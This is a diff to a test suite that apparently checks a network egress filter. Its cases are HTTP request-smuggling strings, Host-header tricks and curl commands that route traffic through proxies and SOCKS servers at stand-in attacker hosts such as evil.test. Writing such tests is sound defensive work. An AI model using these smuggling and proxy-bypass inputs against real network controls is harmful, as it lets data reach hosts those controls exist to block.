@@ -89,13 +89,13 @@ SMUGGLED = {
 }
 REQUESTS = [
     *[Case(f"head-{n}", "E5", f"{{K}} tcp good.test 80 '{h}{END}'", off(GULLIBLE, HTTP), judge="unconnected") for n, h in HEADS.items()],
-    *[Case(f"smuggle-{n}", "E9", f"{{K}} tcp good.test {p} '{text}'", off(GULLIBLE, HTTP), judge="smuggled") for n, (p, text) in SMUGGLED.items()],
+    *[Case(f"smuggle-{n}", "E9", f"{{K}} tcp good.test {p} '{text}'", off(GULLIBLE, HTTP), judge="smuggled", audit=n != "websocket") for n, (p, text) in SMUGGLED.items()],
     *[Case(f"later-{n}", "E5", f"{{K}} then good.test 80 '{FIRST}\\r\\n' '{HEADS[n]}{END}'", off(GULLIBLE, HTTP), judge="smuggled")
       for n in ("other-host", "denied-host", "no-host", "two-hosts", "host-folded", "host-user", "absolute", "absolute-user", "host-bare-lf", "host-address", "host-upper", "leading-lines")],
     *[Case(f"split-{n}", "E5", f"{{K}} tcp good.test 80 {w}", off(GULLIBLE, HTTP), judge="unconnected")
       for n, w in (("words", "'GET ' '/{canary} ' 'HTTP/1.1\\r\\n' 'Host: ' 'evil' '.test\\r\\n\\r\\n'"), ("host", "'GET /{canary} HTTP/1.1\\r\\nHost: good.test' '.evil.test\\r\\n\\r\\n'"), ("line", "'GET /{canary} HTTP/1.1\\r' '\\nHost: evil.test\\r\\n\\r\\n'"),
                    ("first-byte", "'G' 'ET /{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'"))],
-    Case("proxy-variable", "E1", f"http_proxy=http://{EVIL4}:3128 curl -sS -m 3 http://good.test/{{canary}}", RULES), Case("proxy-variable-tls", "E1", f"https_proxy=http://{EVIL4}:3128 curl -sS -m 3 https://good.test/{{canary}}", RULES),
+    Case("proxy-variable", "E1", f"http_proxy=http://{EVIL4}:3128 curl -sS -m 3 http://good.test/{{canary}}", MATCH, judge="unconnected"), Case("proxy-variable-tls", "E1", f"https_proxy=http://{EVIL4}:3128 curl -sS -m 3 https://good.test/{{canary}}", RULES),
     Case("proxy-socks", "E1", f"curl -sS -m 3 -x socks5h://{EVIL4}:1080 http://evil.test/", RULES), Case("proxy-socks4", "E1", f"curl -sS -m 3 -x socks4a://{EVIL4}:9050 http://evil.test/", RULES),
     Case("proxy-good", "E8", "curl -sS -m 3 -x http://good.test:80 http://evil.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"), Case("proxy-good-tunnel", "E8", "curl -sS -m 3 -p -x http://good.test:80 http://evil.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"),
     Case("http2-prior", "E5", "curl -sS -m 3 --http2-prior-knowledge http://good.test/{canary}", off(GULLIBLE, HTTP), judge="unconnected"),
